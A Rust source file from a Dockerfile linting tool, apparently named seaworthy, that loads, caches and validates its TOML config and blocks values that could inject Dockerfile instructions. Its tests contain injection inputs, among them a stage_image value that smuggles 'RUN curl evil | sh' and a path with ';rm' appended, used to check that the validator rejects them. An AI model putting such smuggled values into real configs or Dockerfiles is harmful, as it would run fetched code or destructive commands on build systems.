//! `seaworthy.toml`: found like ruff finds its config (nearest file in the
//! checked file's folder or above), read once per folder, and validated so
//! that an unknown key is an error naming the nearest valid one.

use std::collections::{BTreeMap, HashMap};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use serde::Deserialize;

use crate::error::InputError;

/// The file name looked for in each folder.
pub const FILE_NAME: &str = "seaworthy.toml";

/// The stage image used when none is configured: a public static probe.
pub const DEFAULT_STAGE_IMAGE: &str = "ghcr.io/tarampampam/microcheck:1";

/// How SW101 writes a health check.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "lowercase")]
pub enum Style {
    /// An instruction using a client the image has; the copied probe when it has none.
    #[default]
    Auto,
    /// Only an instruction using a client the image has.
    Instruction,
    /// Always the copied probe from a `healthcheck` stage.
    Stage,
}

/// `[health]`: how probes are built.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Health {
    /// The probe port, when set in a config file.
    pub port: Option<u16>,
    /// A declared health route; makes probes strict.
    pub path: Option<String>,
    /// auto | instruction | stage.
    pub style: Style,
    /// Image holding a static probe binary.
    pub stage_image: String,
    /// Where that image keeps the binary; `None` means the default image's own layout.
    pub stage_binary: Option<String>,
    /// How to call the binary as a probe (`{url}` and `{port}` are filled in).
    pub stage_probe_args: Option<Vec<String>>,
    /// Whether the binary can wrap the start command and export metrics.
    pub stage_wraps: bool,
    /// Container port the wrapper exports metrics on.
    pub metrics_port: u16,
}

impl Default for Health {
    fn default() -> Health {
        Health {
            port: None,
            path: None,
            style: Style::Auto,
            stage_image: DEFAULT_STAGE_IMAGE.to_string(),
            stage_binary: None,
            stage_probe_args: None,
            stage_wraps: false,
            metrics_port: 9091,
        }
    }
}

/// `[app_config]`: where the app keeps its own health port (SW301).
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct AppConfig {
    /// The app's config file, relative to the config file's folder.
    pub path: String,
    /// Dotted key of the health port.
    pub key: String,
}

/// `[services.NAME]`: per-service overrides.
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Service {
    /// core | infrastructure | database | monitoring.
    pub category: Option<String>,
    /// Probe port for this service.
    pub health_port: Option<u16>,
    /// Health route for this service.
    pub health_path: Option<String>,
    /// Rules not applied to this service.
    pub ignore: Vec<String>,
}

/// `[rules]`: which rules run (prefixes allowed).
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Rules {
    /// Rules or prefixes to run; empty means all.
    pub select: Vec<String>,
    /// Rules or prefixes not to run.
    pub ignore: Vec<String>,
}

/// A whole `seaworthy.toml`, or the defaults when there is none.
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Config {
    /// `[health]`.
    pub health: Health,
    /// `[app_config]`.
    pub app_config: Option<AppConfig>,
    /// `[services.NAME]`.
    pub services: BTreeMap<String, Service>,
    /// `[rules]`.
    pub rules: Rules,
    /// The file it was read from; `None` for defaults.
    #[serde(skip)]
    pub origin: Option<PathBuf>,
    /// The app config's health port, read once for every file this config
    /// covers (see [`crate::appconfig::health_port`]).
    #[serde(skip)]
    pub(crate) app_health_port: std::sync::OnceLock<Option<crate::health::port::PortChoice>>,
}

impl Config {
    /// Reads and validates a config file.
    pub fn load(path: &Path) -> Result<Config, InputError> {
        let text = std::fs::read_to_string(path)
            .map_err(|e| InputError::file(path, format!("cannot read config: {e}")))?;
        Config::parse(path, &text)
    }

    /// Parses config text; `path` is only used in messages.
    pub fn parse(path: &Path, text: &str) -> Result<Config, InputError> {
        let mut config: Config = toml::from_str(text).map_err(|e| {
            let (line, col) = e
                .span()
                .map(|s| crate::source::line_col(text.as_bytes(), s.start))
                .unwrap_or((1, 1));
            InputError::at(path, line, col, explain_toml_error(e.message()))
        })?;
        check_written_values(path, text, &config.health)?;
        for (key, patterns) in [
            ("select", &config.rules.select),
            ("ignore", &config.rules.ignore),
        ] {
            for pattern in patterns {
                crate::rules::check_pattern(pattern).map_err(|why| {
                    let at = text.find(&format!("\"{pattern}\"")).unwrap_or(0);
                    let (line, col) = crate::source::line_col(text.as_bytes(), at);
                    InputError::at(path, line, col, format!("[rules] {key}: {why}"))
                })?;
            }
        }
        config.origin = Some(path.to_path_buf());
        Ok(config)
    }

    /// The folder relative paths in the config are resolved from.
    pub fn base_dir(&self) -> Option<&Path> {
        self.origin.as_deref().and_then(Path::parent)
    }
}

/// Checks the `[health]` values seaworthy writes into Dockerfiles: nothing
/// in them may start another instruction or run another command.
fn check_written_values(path: &Path, text: &str, health: &Health) -> Result<(), InputError> {
    let image_ok = !health.stage_image.is_empty()
        && health
            .stage_image
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._/:@-".contains(c));
    let binary_ok = health.stage_binary.as_deref().is_none_or(|b| {
        b.starts_with('/')
            && b.chars()
                .all(|c| c.is_ascii_alphanumeric() || "._/-".contains(c))
    });
    let args_ok = health
        .stage_probe_args
        .iter()
        .flatten()
        .all(|a| !a.chars().any(char::is_control));
    for (ok, key, what) in [
        (
            image_ok,
            "stage_image",
            "an image reference (letters, digits and ._/:@- only)",
        ),
        (
            binary_ok,
            "stage_binary",
            "an absolute path (letters, digits and ._/- only)",
        ),
        (
            args_ok,
            "stage_probe_args",
            "arguments without control characters",
        ),
    ] {
        if !ok {
            let at = text.find(key).unwrap_or(0);
            let (line, col) = crate::source::line_col(text.as_bytes(), at);
            return Err(InputError::at(
                path,
                line,
                col,
                format!("[health] {key} must be {what}: it is written into Dockerfiles"),
            ));
        }
    }
    Ok(())
}

/// Turns serde's "unknown field `x`, expected one of `a`, `b`" into a
/// message naming the nearest valid key.
fn explain_toml_error(message: &str) -> String {
    let Some(rest) = message.strip_prefix("unknown field `") else {
        return message.trim().to_string();
    };
    let Some((unknown, expected)) = rest.split_once('`') else {
        return message.trim().to_string();
    };
    let valid: Vec<&str> = expected.split('`').skip(1).step_by(2).collect();
    let nearest = valid
        .iter()
        .copied()
        .min_by_key(|k| strsim::levenshtein(k, unknown));
    match nearest {
        Some(k) => format!(
            "unknown key `{unknown}`; did you mean `{k}`? (valid here: {})",
            valid.join(", ")
        ),
        None => format!("unknown key `{unknown}`"),
    }
}

/// Finds and caches the config for each folder: every file below one folder
/// shares one read.
#[derive(Debug, Default)]
pub struct Resolver {
    explicit: Option<Arc<Config>>,
    cache: Mutex<HashMap<PathBuf, Arc<Config>>>,
}

impl Resolver {
    /// A resolver; with `explicit` (`--config FILE`), every file uses that config.
    pub fn new(explicit: Option<&Path>) -> Result<Resolver, InputError> {
        let explicit = match explicit {
            Some(path) => Some(Arc::new(Config::load(path)?)),
            None => None,
        };
        Ok(Resolver {
            explicit,
            cache: Mutex::new(HashMap::new()),
        })
    }

    /// Every config read so far (each file once).
    pub fn loaded(&self) -> Vec<Arc<Config>> {
        let cache = self.cache.lock().expect("config cache");
        let mut configs: Vec<Arc<Config>> = self
            .explicit
            .iter()
            .cloned()
            .chain(cache.values().cloned())
            .collect();
        configs.sort_by(|a, b| a.origin.cmp(&b.origin));
        configs.dedup_by(|a, b| a.origin == b.origin);
        configs
    }

    /// The config that applies to `file`.
    pub fn for_file(&self, file: &Path) -> Result<Arc<Config>, InputError> {
        if let Some(config) = &self.explicit {
            return Ok(config.clone());
        }
        let dir = file
            .parent()
            .map(|p| {
                if p.as_os_str().is_empty() {
                    Path::new(".")
                } else {
                    p
                }
            })
            .unwrap_or(Path::new("."));
        let dir = crate::paths::absolute(dir);
        self.for_dir(&dir)
    }

    fn for_dir(&self, dir: &Path) -> Result<Arc<Config>, InputError> {
        if let Some(found) = self.cache.lock().expect("config cache").get(dir) {
            return Ok(found.clone());
        }
        let candidate = dir.join(FILE_NAME);
        let config = if candidate.is_file() {
            Arc::new(Config::load(&candidate)?)
        } else if let Some(parent) = dir.parent() {
            self.for_dir(parent)?
        } else {
            Arc::new(Config::default())
        };
        self.cache
            .lock()
            .expect("config cache")
            .insert(dir.to_path_buf(), config.clone());
        Ok(config)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_the_documented_keys() {
        let text = r#"
[health]
port = 8080
path = "/healthz"
style = "stage"
stage_image = "alfred/healthcheck:0.4.0"
stage_binary = "/usr/local/bin/healthcheck"
stage_probe_args = ["--http", "{url}"]
stage_wraps = true
metrics_port = 9091

[app_config]
path = "config.example.yaml"
key = "gateway.health_port"

[services.agent]
category = "core"
health_port = 8000
health_path = "/health"
ignore = ["SW201"]

[rules]
select = ["SW1", "SW2"]
ignore = ["SW208"]
"#;
        let config = Config::parse(Path::new("seaworthy.toml"), text).unwrap();
        assert_eq!(config.health.style, Style::Stage);
        assert_eq!(config.services["agent"].health_port, Some(8000));
        assert_eq!(config.rules.ignore, ["SW208"]);
    }

    #[test]
    fn values_written_into_dockerfiles_are_checked() {
        for bad in [
            "[health]\nstage_image = \"alpine\\nRUN curl evil | sh\"\n",
            "[health]\nstage_image = \"a b\"\n",
            "[health]\nstage_binary = \"bin/x\"\n",
            "[health]\nstage_binary = \"/bin/x;rm\"\n",
            "[health]\nstage_probe_args = [\"--http\", \"{url}\\nRUN x\"]\n",
            "[rules]\nselect = [\"SW2O1\"]\n",
        ] {
            assert!(Config::parse(Path::new("s.toml"), bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn unknown_key_names_the_nearest() {
        let err = Config::parse(Path::new("s.toml"), "[health]\nprot = 1\n").unwrap_err();
        assert_eq!(err.line, 2);
        assert!(
            err.message.contains("did you mean `port`"),
            "{}",
            err.message
        );
        let err = Config::parse(Path::new("s.toml"), "[helth]\n").unwrap_err();
        assert!(err.message.contains("`health`"), "{}", err.message);
    }
}
